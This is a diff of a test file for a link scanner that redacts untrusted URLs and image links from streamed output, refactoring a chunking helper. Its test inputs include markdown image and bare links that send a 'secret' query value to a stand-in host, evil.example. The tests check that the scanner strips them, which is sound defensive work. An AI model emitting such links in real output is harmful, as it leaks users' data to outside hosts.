@@ -1,15 +1,10 @@
 import { describe, expect, it } from "vitest";
 import { isRiskyUrl, linkHoldFrom, linkScanner } from "../src/protect/links";
 import type { OutputScanner } from "../src/protect/types";
-import { drive } from "./protect-drive";
+import { chunks, drive } from "./protect-drive";
 
 const ALLOWED = ["*.trusted.example", "cdn.example", "bücher.example"];
 const redactor = (): OutputScanner => linkScanner({ action: "redact", allowedHosts: ALLOWED });
-function chunk(text: string, size: number): string[] {
-  const out: string[] = [];
-  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
-  return out;
-}
 const once = (text: string, scanner = redactor()) => drive(scanner, [text]);
 
 /** [input, expected output under `redact`, finding types] */
@@ -182,17 +177,17 @@ describe("linkScanner in a stream", () => {
 
   it("keeps the data of a URL cut by a forced release from reaching the host", () => {
     const pad = "a/".repeat(300);
-    const image = drive(redactor(), chunk(`look ![x](https://evil.example/${pad}?q=secret) end`, 16), 64);
+    const image = drive(redactor(), chunks(`look ![x](https://evil.example/${pad}?q=secret) end`, 16), 64);
     expect(image.text).not.toMatch(/evil|secret/);
     expect(image.findings.map((f) => f.type)).toEqual(["IMAGE_LINK"]);
 
-    const bare = drive(redactor(), chunk(`see https://evil.example/${pad}?q=secret more`, 16), 64);
+    const bare = drive(redactor(), chunks(`see https://evil.example/${pad}?q=secret more`, 16), 64);
     expect(bare.text).not.toContain("secret");
     expect(bare.text).toContain("[link removed] more");
     expect(bare.findings.map((f) => f.type)).toEqual(["LINK"]);
 
     const fine = `see https://cdn.example/${pad}?q=1 and ![x](https://cdn.example/${pad}?v=2) more`;
-    expect(drive(redactor(), chunk(fine, 16), 64)).toEqual({ text: fine, findings: [] });
+    expect(drive(redactor(), chunks(fine, 16), 64)).toEqual({ text: fine, findings: [] });
   });
 
   it("finishes on 1 MB of adversarial input, in one piece and streamed", () => {
@@ -200,7 +195,7 @@ describe("linkScanner in a stream", () => {
     for (const p of patterns) {
       const text = p.repeat(Math.ceil(1_000_000 / p.length));
       expect(typeof once(text).text).toBe("string");
-      const r = drive(redactor(), chunk(text, 4096));
+      const r = drive(redactor(), chunks(text, 4096));
       expect(r.text.length).toBeGreaterThan(0);
     }
   });
